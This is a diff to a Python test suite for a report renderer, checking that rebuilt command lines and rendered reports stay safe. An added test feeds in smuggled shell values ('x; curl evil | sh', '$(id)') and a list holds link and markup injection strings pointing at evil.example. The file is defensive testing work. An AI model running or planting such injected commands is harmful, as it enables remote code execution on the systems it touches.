@@ -79,7 +79,7 @@ BUNDLE = Bundle(
     outcome="accepted",
     comparison=None,
     spent=Spent(412, 130, 24, seconds=8.123),
-    command="optimize-runbook support-triage --random-seed 7",
+    settings={"budget.rollouts": 900, "agent.field": "the queue"},
 )
 FINDINGS = Findings(
     bundle=seal(BUNDLE),
@@ -159,7 +159,7 @@ def test_a_report_begins_with_its_verdict_and_has_its_sections_and_tables() -> N
         "- Rollouts paid: 412; taken from the journal: 130",
         "- Harm that is rarer than 3 in 3 (100.0%) is invisible to this many tasks.",
         "- 12 held-out tasks pass today: fewer than 20, so a loss can hardly be seen.",
-        "optimize-runbook support-triage --random-seed 7",
+        "optimize-runbook support-triage --random-seed 7 --agent-field 'the queue' --budget-rollouts 900",
         "- Policy: none is declared",
         "  m1 --> m0",
         "  style m0 stroke-width:4px",
@@ -167,6 +167,20 @@ def test_a_report_begins_with_its_verdict_and_has_its_sections_and_tables() -> N
 )
 def test_a_report_says(line: str) -> None:
     assert line in render(FINDINGS).splitlines()
+
+
+def test_the_command_to_make_it_again_holds_no_command_of_others() -> None:
+    hostile = {
+        "agent.field": "x; curl evil | sh",
+        "reflector.kind": "$(id)",
+        "no.such": "x",
+        "patience": None,
+    }
+    report = render(
+        msgspec.structs.replace(FINDINGS, bundle=msgspec.structs.replace(BUNDLE, settings=hostile))
+    )
+    told = "--random-seed 7 --agent-field 'x; curl evil | sh' --reflector-kind '$(id)'"
+    assert f"optimize-runbook support-triage {told}" in report.splitlines()
 
 
 def test_the_chosen_member_is_marked_and_only_the_frontier_is_listed() -> None:
@@ -202,6 +216,7 @@ HOSTILE = [
     'x"] --> m0; click m0 "https://evil.example"\n```\n# out',
     "www.evil.example http://evil.example evil@evil.example",
     "[x]: https://evil.example 'title'",
+    "'title'www.evil.example",
     "\x1b[31mred\x00",
     "*bold* __under__ ~~gone~~ &lt;b&gt; \\",
     "",
@@ -220,7 +235,7 @@ def poisoned(text: str) -> Findings:
         changes=(Change(text, text, (text, "t-1")), Change("rules", text, ())),
         members=tuple(msgspec.structs.replace(member, note=text) for member in BUNDLE.members),
         reflected_on=(text,),
-        command=text,
+        settings={"agent.field": text},
     )
     return msgspec.structs.replace(
         FINDINGS,
@@ -282,7 +297,7 @@ def test_a_report_stays_within_what_a_forge_takes() -> None:
                 MemberSummary(digest(b"%d" % n), (SEED,) * 9, 1, 0.5, 9, 9, text) for n in range(500)
             ),
             models=(text,) * 500,
-            command=text,
+            settings={"agent.field": text},
         ),
         "comparison": msgspec.structs.replace(
             COMPARISON,
